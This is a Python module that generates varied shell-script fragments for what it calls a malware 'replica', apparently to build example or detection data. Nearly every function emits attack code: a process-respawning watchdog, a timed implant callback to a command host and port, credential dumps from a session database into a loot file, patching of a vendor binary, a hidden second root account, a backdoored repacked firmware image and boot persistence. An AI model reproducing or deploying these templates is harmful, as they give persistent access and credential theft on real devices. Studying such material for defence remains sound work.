"""The ways a shell script says the same thing; the replica's seed chooses among them.

Everything here is text that nobody runs: addresses are documentation ranges, accounts have locked passwords.
"""

from __future__ import annotations

from random import Random

from hinomi.examples.names import Names


def endless(rng: Random, seconds: int, body: str) -> str:
    """Repeat `body` for ever with a pause of `seconds`."""
    return rng.choice((
        f"while true; do\n{body}  sleep {seconds}\ndone\n",
        f"while :; do\n{body}  sleep {seconds}\ndone\n",
        f"until false; do\n{body}  sleep {seconds}\ndone\n",
        f"for ((;;)); do\n{body}  sleep {seconds}\ndone\n",
        f"PAUSE={seconds}\nwhile [ 1 ]; do\n{body}  sleep $PAUSE\ndone\n",
        f"while sleep {seconds}; do\n{body}done\n",
    ))  # fmt: skip


def keep_running(rng: Random, folder: str, name: str) -> str:
    """Start `folder/name` when no such process is there."""
    path = f"{folder}/{name}"
    return rng.choice((
        f"  if ! pidof {name} >/dev/null; then\n    {path} &\n  fi\n",
        f"  pgrep -f {name} >/dev/null || nohup {path} >/dev/null 2>&1 &\n",
        f"  if [ -z \"$(ps | grep {name} | grep -v grep)\" ]; then\n    {path} &\n  fi\n",
        f"  if ! ps aux | grep -v grep | grep -q {name}; then\n    setsid bash {path} &\n  fi\n",
        f"  n=$(pgrep -c {name})\n  if [ \"$n\" -eq 0 ]; then\n    bash {path} &\n  fi\n",
        f"  kill -0 $(cat /var/run/{name}.pid) 2>/dev/null || {path} &\n",
        f"  PEER={path}\n  if ! pgrep -x $(basename $PEER) >/dev/null; then $PEER & fi\n",
    ))  # fmt: skip


def call_back(rng: Random, names: Names) -> str:
    """Start the implant with its server at the time of day that the script holds."""
    program = f"{names.folder}/{names.implant}"
    call = rng.choice((
        f"{program} -s {names.host} -p {names.port} &",
        f"{program} {names.host} {names.port} &",
        f"{program} {names.host}:{names.port} &",
        f"nohup {program} -c {names.host} {names.port} >/dev/null 2>&1 &",
    ))  # fmt: skip
    return rng.choice((
        f"  if [ \"$(date +%H%M)\" = \"{names.time}\" ]; then\n    {call}\n  fi\n",
        f"  NOW=`date +%H%M`\n  if [ $NOW -eq {names.time} ]; then {call} fi\n".replace("& fi", "& fi"),
        f"  case $(date +%H%M) in\n    {names.time}) {call} ;;\n  esac\n",
    ))  # fmt: skip


def take_credentials(rng: Random, names: Names) -> str:
    """Ask the session database for users and secrets and append them to the loot file."""
    sql = rng.choice(
        ("select {0},{1} from {2}", "SELECT {0}, {1} FROM {2};", "select {0}, {1} from {2} where {0} != ''")
    )
    sql = sql.format(names.user_column, names.secret_column, names.session_table)
    database, loot = names.session_database, names.loot
    return rng.choice((
        f"  sqlite3 {database} \"{sql}\" >> {loot}\n",
        f"  echo \"{sql}\" | sqlite3 {database} >> {loot}\n",
        f"  sqlite3 {database} <<EOF >> {loot}\n{sql}\nEOF\n",
        f"  mysql -N -e \"{sql}\" portal >> {loot}\n",
        f"  Q='{sql}'\n  sqlite3 {database} \"$Q\" | tee -a {loot} >/dev/null\n",
    ))  # fmt: skip


def patch_vendor(rng: Random, names: Names, stop: str, call: str) -> str:
    """Replace the vendor program's shut-down string by a call to the helper, same length."""
    target = f"/usr/sbin/{names.vendor}"
    return rng.choice((
        f"sed -i 's#{stop}#{call}#' {target}\n",
        f"perl -pi -e 's#{stop}#{call}#' {target}\n",
        f"if grep -q '{stop}' {target}; then\n  cp {target} /tmp/.p\n  sed -i \"s|{stop}|{call}|g\" /tmp/.p\n"
        f"  mv /tmp/.p {target}\nfi\n",
        f"OFF=$(grep -abo '{stop}' {target} | cut -d: -f1)\n"
        f"printf '%s' '{call}' | dd of={target} bs=1 seek=$OFF conv=notrunc 2>/dev/null\n",
    ))  # fmt: skip


def add_account(rng: Random, names: Names) -> str:
    """Add a second root to the system mounted at the mount point."""
    root, name = names.mount, names.account
    line = f"{name}:x:0:0::/root:/bin/sh"
    return rng.choice((
        f"    echo '{line}' >> {root}/etc/passwd\n    echo '{name}:!:19000:0:99999:7:::' >> {root}/etc/shadow\n",
        f"    useradd -R {root} -o -u 0 -g 0 -s /bin/sh {name}\n",
        f"    chroot {root} adduser -D -u 0 {name}\n",
        f"    sed -i '$ a {line}' {root}/etc/passwd\n",
        f"    printf '%s\\n' '{line}' >> {root}/etc/passwd\n",
        f"    cat >> {root}/etc/passwd <<EOT\n{line}\nEOT\n",
    ))  # fmt: skip


def firmware_hook(rng: Random, names: Names) -> str:
    """Unpack the new image where it stands, put the whole set and the account into it, and pack it again."""
    image, mount = names.firmware, names.mount
    own = " ".join(f"{names.folder}/{n}" for n in (names.main, names.twin, names.helper, names.implant, names.hook))
    put = f"    cp {own} {mount}{names.folder}/\n    cp {names.boot_file} {mount}{names.boot_file}\n"
    add = add_account(rng, names)
    packing = rng.choice((
        f"    cp {image} {image}.bak\n    gunzip -c {image} > /tmp/work.img\n    mkdir -p {mount}\n"
        f"    mount -o loop /tmp/work.img {mount}\n{put}{add}    umount {mount}\n    gzip -c /tmp/work.img > {image}\n",
        f"    mv {image} {image}.old\n    mkdir -p {mount} && cd {mount}\n    zcat {image}.old | cpio -idm\n"
        f"{put}{add}    find . | cpio -o -H newc | gzip -9 > {image}\n    cd /\n",
        f"    cp -p {image} /tmp/orig\n    unsquashfs -d {mount} {image}\n{put}{add}"
        f"    rm -f {image}\n    mksquashfs {mount} {image} -noappend\n",
        f"    gzip -d < {image} > /tmp/work\n    mkdir {mount}\n    mount /tmp/work {mount} -o loop\n{put}{add}"
        f"    umount {mount}\n    gzip /tmp/work\n    mv /tmp/work.gz {image}\n",
    ))  # fmt: skip
    return rng.choice((
        f"  if [ -f {image} ]; then\n{packing}  fi\n",
        f"  if test -e {image}; then\n{packing}  fi\n",
        f"  NEW={image}\n  if [[ -s $NEW ]]; then\n{packing}  fi\n",
    ))  # fmt: skip


def boot_line(rng: Random, names: Names) -> str:
    """Start the main script at boot."""
    path = f"{names.folder}/{names.main}"
    return rng.choice(
        (
            f"{path} &\n",
            f"nohup {path} >/dev/null 2>&1 &\n",
            f"[ -x {path} ] && {path} &\n",
            f"(sleep 20; bash {path}) &\n",
        )
    )
